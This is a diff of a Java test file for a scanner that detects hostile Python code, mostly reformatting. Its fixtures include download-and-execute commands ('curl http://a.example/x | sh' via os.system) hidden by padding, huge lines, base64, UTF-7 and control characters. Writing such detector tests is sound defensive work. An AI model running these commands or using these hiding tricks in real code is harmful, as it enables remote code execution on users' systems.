@@ -33,7 +33,10 @@ class HostileSourceTest {
 
     @Test
     void longChainsAreFollowed() {
-        found(scan("import os\nc = 'curl http://a.example/x' " + "+ ' '".repeat(20_000) + " + '| sh'\nos.system(c)\n"), Signal.DOWNLOAD_COMMAND);
+        found(
+                scan("import os\nc = 'curl http://a.example/x' " + "+ ' '".repeat(20_000)
+                        + " + '| sh'\nos.system(c)\n"),
+                Signal.DOWNLOAD_COMMAND);
         scan("import os\n" + "a = ".repeat(20_000) + "1\n");
         scan("import os\nx" + ".a".repeat(50_000) + "\n");
         scan("import os\nx" + "()".repeat(50_000) + "\n");
@@ -48,7 +51,8 @@ class HostileSourceTest {
 
     @Test
     void aHugeFileIsSearchedToItsEnd() {
-        byte[] rows = "    (1, 2, 3, 'some words of data', 4.5),\n".repeat(500_000).getBytes(UTF_8);
+        byte[] rows =
+                "    (1, 2, 3, 'some words of data', 4.5),\n".repeat(500_000).getBytes(UTF_8);
         byte[] attack = ("]\n" + ATTACK).getBytes(UTF_8);
         byte[] head = "DATA = [\n".getBytes(UTF_8);
         byte[] source = Arrays.copyOf(head, head.length + rows.length + attack.length);
@@ -66,15 +70,20 @@ class HostileSourceTest {
 
     @Test
     void oneHugeLineIsShownInPart() {
-        CodeReport report = scan("x = '" + "A".repeat(5_000_000) + "'; import os; os.system('curl http://a.example/x | sh')\n");
+        CodeReport report =
+                scan("x = '" + "A".repeat(5_000_000) + "'; import os; os.system('curl http://a.example/x | sh')\n");
         found(report, Signal.DOWNLOAD_COMMAND);
-        assertThat(report.findings()).allSatisfy(f -> assertThat(f.evidence().length()).isLessThanOrEqualTo(Evidence.LENGTH + 1));
+        assertThat(report.findings())
+                .allSatisfy(f -> assertThat(f.evidence().length()).isLessThanOrEqualTo(Evidence.LENGTH + 1));
     }
 
     @Test
     void brokenSyntaxIsReadAsFarAsItGoes() {
         found(scan("x = = 3\n" + ATTACK + "\nclass (((\n"), Signal.DOWNLOAD_COMMAND);
-        found(scan("print 'two'\nimport os\nexec 'aW1w'.decode('base64')\nos.system('curl http://a.example/x | sh')\n"), Signal.DOWNLOAD_COMMAND);
+        found(
+                scan(
+                        "print 'two'\nimport os\nexec 'aW1w'.decode('base64')\nos.system('curl http://a.example/x | sh')\n"),
+                Signal.DOWNLOAD_COMMAND);
     }
 
     @Test
@@ -84,8 +93,7 @@ class HostileSourceTest {
         found(scan("\uFEFF" + ATTACK), Signal.DOWNLOAD_COMMAND);
         found(scan(ATTACK.replace("\n", "\r")), Signal.DOWNLOAD_COMMAND);
         found(scan(ATTACK.replace("\n", "\r\n")), Signal.DOWNLOAD_COMMAND);
-        CodeReport hidden = scan(
-                """
+        CodeReport hidden = scan("""
                 # coding: utf-7
                 +AG8-s = 1
                 import os
@@ -101,8 +109,9 @@ class HostileSourceTest {
     @Test
     void evidenceIsSafeToPrint() {
         CodeReport report = scan("import os; os.system('curl http://a.example/\u001b[2J\u202e | sh')\n");
-        assertThat(report.findings()).isNotEmpty().allSatisfy(f -> assertThat(f.evidence())
-                .doesNotContain("\u001b", "\u202e", "\n"));
+        assertThat(report.findings())
+                .isNotEmpty()
+                .allSatisfy(f -> assertThat(f.evidence()).doesNotContain("\u001b", "\u202e", "\n"));
     }
 
     @Test
